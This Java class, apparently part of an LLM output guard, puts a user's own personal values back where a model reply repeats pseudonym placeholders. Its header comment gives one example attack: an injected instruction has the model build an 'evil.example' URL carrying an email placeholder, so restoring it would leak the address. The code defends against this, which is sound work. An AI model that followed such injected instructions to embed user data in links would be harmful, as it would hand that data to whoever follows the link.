package dev.bulwark.guard.filter;

import dev.bulwark.guard.pipeline.Pseudonyms;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Puts a request's own personal values back where the reply repeats their placeholders ({@link PseudonymTable}),
 * as the last step of the output rules: what the model wrote has been checked for leaks, markup and entities
 * already, and the values restored are the user's own, so the entity rules would only redact them again.
 *
 * <p>Two placeholders stay as they are. One glued to the text before it (a letter, a digit or a URL character
 * such as {@code / = ? & : @}): an injected instruction could have the model build
 * {@code https://evil.example/?q=[EMAIL_1]}, and restoring there would hand the address to whoever follows the link.
 * And one whose value holds markup ({@code < > ( ) [ ] ! `} or a line break), which would slip past the markup rules
 * that already ran. Streamed, an unfinished placeholder at the end of a piece is held back until it is complete or
 * cannot be one ({@value #MAX_PLACEHOLDER} characters at most), so the result does not depend on where chunks were
 * cut. Not thread-safe: one per text.
 */
final class PseudonymRestore {
    /** Longest placeholder ({@code [} + type name + {@code _} + up to 4 digits + {@code ]}). */
    static final int MAX_PLACEHOLDER = 40;
    private static final Pattern PLACEHOLDER = Pattern.compile("\\[[A-Z][A-Z_]{0,32}_[1-9][0-9]{0,3}]");
    private static final String URL_CHARACTERS = "/?=&#%@:+.~-_\\$";
    private static final String MARKUP = "<>()[]!`\r\n";

    private final Pseudonyms pseudonyms;
    private final StringBuilder held = new StringBuilder();
    /** The character of the model's text before what is held, as written (before restoring): the context rule's. */
    private char before = '\n';
    private int restored;

    PseudonymRestore(Pseudonyms pseudonyms) {
        this.pseudonyms = pseudonyms;
    }

    /**
     * {@code text} restored at once (the same as any split into {@link #accept} calls and a {@link #finish}), the
     * count recorded in {@code tally}.
     */
    static String whole(Pseudonyms pseudonyms, String text, DecisionTally tally) {
        var restore = new PseudonymRestore(pseudonyms);
        String out = restore.accept(text) + restore.finish();
        count(restore.restored(), tally);
        return out;
    }

    String accept(String text) {
        held.append(text);
        return release(unfinishedFrom());
    }

    String finish() {
        return release(held.length());
    }

    /** Placeholders put back so far. */
    int restored() {
        return restored;
    }

    /** Records how many placeholders one text got back, if any. */
    static void count(int restored, DecisionTally tally) {
        if (restored > 0) tally.add("pii", "restored", restored, 1.0, "");
    }

    /** Where a placeholder that may still complete begins in what is held, or its length when none does. */
    private int unfinishedFrom() {
        int from = Math.max(0, held.length() - MAX_PLACEHOLDER + 1);
        int open = held.lastIndexOf("[");
        if (open < from) return held.length();
        for (int i = open + 1; i < held.length(); i++) {
            char c = held.charAt(i);
            if (!(c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_')) return held.length();
        }
        return open;
    }

    /** Restores and returns what is held up to {@code end}, keeping the rest. */
    private String release(int end) {
        if (end == 0) return "";
        var out = new StringBuilder(end + 32);
        Matcher m = PLACEHOLDER.matcher(held).region(0, end);
        int at = 0;
        while (m.find()) {
            char previous = m.start() == 0 ? before : held.charAt(m.start() - 1);
            String value = pseudonyms.valueOf(m.group());
            if (value == null || glued(previous) || holdsMarkup(value)) continue;
            out.append(held, at, m.start()).append(value);
            at = m.end();
            restored++;
        }
        out.append(held, at, end);
        before = held.charAt(end - 1);
        held.delete(0, end);
        return out.toString();
    }

    private static boolean glued(char previous) {
        return Character.isLetterOrDigit(previous) || URL_CHARACTERS.indexOf(previous) >= 0;
    }

    private static boolean holdsMarkup(String value) {
        for (int i = 0; i < value.length(); i++) if (MARKUP.indexOf(value.charAt(i)) >= 0) return true;
        return false;
    }
}
